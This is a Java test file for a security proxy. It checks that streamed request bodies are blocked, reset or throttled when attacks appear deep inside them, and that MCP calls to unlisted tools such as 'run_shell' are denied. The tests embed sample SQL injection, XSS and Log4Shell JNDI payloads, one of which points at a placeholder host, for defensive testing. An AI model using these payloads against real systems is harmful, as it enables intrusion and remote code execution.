package dev.vigil.guard;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.guard.alert.Alert;
import dev.vigil.guard.detect.MutableClock;
import dev.vigil.guard.policy.PolicyFile;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Request bodies too large to hold are inspected as they stream, against a real upstream on loopback. */
class GuardStreamingInspectionTest {
    final MutableClock clock = new MutableClock(Instant.parse("2026-03-01T10:00:00Z"));
    RecordingUpstream upstream;
    GuardServer guard;

    @BeforeEach
    void start() throws IOException {
        upstream = new RecordingUpstream();
        guard = GuardServer.start(
                GuardConfig.of(0, List.of(new GuardConfig.Route("api", "*", "/", upstream.uri()))),
                PolicyFile.parse("version: 1\nroutes:\n  api: { mode: block }\n", "test"),
                null,
                clock);
    }

    @AfterEach
    void stop() throws IOException {
        guard.close();
        upstream.close();
    }

    /** A JSON array of ordinary records, about {@code bytes} long, with {@code extra} spliced in near the end. */
    static byte[] records(int bytes, String extra) {
        StringBuilder sb = new StringBuilder("[");
        int i = 0;
        while (sb.length() < bytes) {
            if (i > 0) {
                sb.append(',');
            }
            sb.append("{\"id\":").append(i++).append(",\"name\":\"O'Reilly on Union Street\",\"tags\":[\"a\",\"b\"]}");
        }
        return sb.append(extra).append(']').toString().getBytes(StandardCharsets.UTF_8);
    }

    /** Sends one POST with a Content-Length body from another thread and returns the response as read. */
    String post(byte[] body) throws Exception {
        return post("/import", body, false);
    }

    /** Like {@link #post(byte[])}; {@code raw} reads every byte until the connection ends instead of one response. */
    String post(String path, byte[] body, boolean raw) throws Exception {
        try (Socket s = new Socket("127.0.0.1", guard.port())) {
            OutputStream out = s.getOutputStream();
            InputStream in = s.getInputStream();
            Thread writer = Thread.ofVirtual().start(() -> {
                try {
                    out.write(("POST " + path + " HTTP/1.1\r\nHost: api.test\r\nContent-Type: application/json\r\n"
                                    + "Content-Length: " + body.length + "\r\n\r\n")
                            .getBytes(StandardCharsets.US_ASCII));
                    for (int at = 0; at < body.length; at += 8192) {
                        out.write(body, at, Math.min(8192, body.length - at));
                    }
                    out.flush();
                } catch (IOException refused) {
                    // The guard refused the request and closed the connection mid-body.
                }
            });
            String response;
            if (raw) {
                ByteArrayOutputStream all = new ByteArrayOutputStream();
                try {
                    in.transferTo(all);
                } catch (IOException reset) {
                    // A reset ends the response as surely as a close does.
                }
                response = all.toString(StandardCharsets.ISO_8859_1);
            } else {
                response = RawHttp.readResponse(in);
            }
            writer.join();
            return response;
        }
    }

    @Test
    void blocksAnAttackDeepInALargeBodyBeforeTheUpstreamReceivesAllOfIt() throws Exception {
        byte[] body = records(1024 * 1024, ",{\"id\":0,\"name\":\"x' OR '1'='1\"}");

        String response = post(body);

        assertThat(response)
                .startsWith("HTTP/1.1 403")
                .containsIgnoringCase("content-type: application/problem+json")
                .contains("\"status\":403");
        RecordingUpstream.Received r = upstream.next();
        assertThat(r.declared()).isEqualTo(body.length);
        assertThat(r.complete()).isFalse();
        assertThat(r.received()).isLessThan(body.length);
        assertThat(guard.alerts()).singleElement().satisfies(a -> {
            assertThat(a.type()).isEqualTo("injection.sql");
            assertThat(a.action()).isEqualTo("blocked");
        });
    }

    @Test
    void passesALargeBenignBodyByteForByte() throws Exception {
        byte[] body = records(1024 * 1024, "");
        String sha =
                HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(body));

        String response = post(body);

        assertThat(response).startsWith("HTTP/1.1 200").endsWith(sha);
        RecordingUpstream.Received r = upstream.next();
        assertThat(r.complete()).isTrue();
        assertThat(r.sha256()).isEqualTo(sha);
        assertThat(guard.alerts()).extracting(Alert::type).isEmpty();
    }

    @Test
    void resetsTheClientWhenTheAttackComesAfterTheResponseStarted() throws Exception {
        byte[] body = records(1024 * 1024, ",{\"id\":0,\"name\":\"<script>alert(1)</script>\"}");

        String response = post("/early", body, true);

        assertThat(response).startsWith("HTTP/1.1 200").contains("first").doesNotContain("\r\n0\r\n\r\n");
        RecordingUpstream.Received r = upstream.next();
        assertThat(r.complete()).isFalse();
        assertThat(guard.alerts()).singleElement().extracting(Alert::type).isEqualTo("injection.xss");
    }

    static byte[] toolCall(String tool, int argumentBytes) {
        return ("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/call\",\"params\":{\"name\":\"" + tool
                        + "\",\"arguments\":{\"notes\":\"" + "lorem ipsum ".repeat(argumentBytes / 12) + "\"}}}")
                .getBytes(StandardCharsets.UTF_8);
    }

    @Test
    void blocksAStreamedMcpCallToAnUnlistedToolBeforeTheUpstreamReceivesAllOfIt() throws Exception {
        guard.updatePolicy(PolicyFile.parse(
                "version: 1\nroutes:\n  api: { mode: block, mcp: { allowedTools: [search_docs] } }\n", "test"));
        byte[] body = toolCall("run_shell", 1024 * 1024);

        String response = post("/mcp", body, false);

        assertThat(response).startsWith("HTTP/1.1 403");
        // The name comes in the first chunk, so the upstream connection often gets nothing at all.
        assertThat(upstream.received).allSatisfy(r -> assertThat(r.complete()).isFalse());
        assertThat(guard.alerts()).singleElement().satisfies(a -> {
            assertThat(a.type()).isEqualTo("mcp.tool-denied");
            assertThat(a.action()).isEqualTo("blocked");
        });
    }

    @Test
    void passesAStreamedMcpCallToAListedTool() throws Exception {
        guard.updatePolicy(PolicyFile.parse(
                "version: 1\nroutes:\n  api: { mode: block, mcp: { allowedTools: [search_docs] } }\n", "test"));
        byte[] body = toolCall("search_docs", 1024 * 1024);

        String response = post("/mcp", body, false);

        assertThat(response).startsWith("HTTP/1.1 200");
        assertThat(upstream.next().complete()).isTrue();
        assertThat(guard.alerts()).isEmpty();
    }

    @Test
    void throttleModeAnswers429ForAStreamedAttack() throws Exception {
        guard.updatePolicy(PolicyFile.parse("version: 1\nroutes:\n  api: { mode: throttle }\n", "test"));
        String response = post(records(256 * 1024, ",{\"id\":0,\"name\":\"${jndi:ldap://x.example/a}\"}"));
        assertThat(response).startsWith("HTTP/1.1 429").containsIgnoringCase("retry-after: 60");
        assertThat(upstream.next().complete()).isFalse();
    }
}
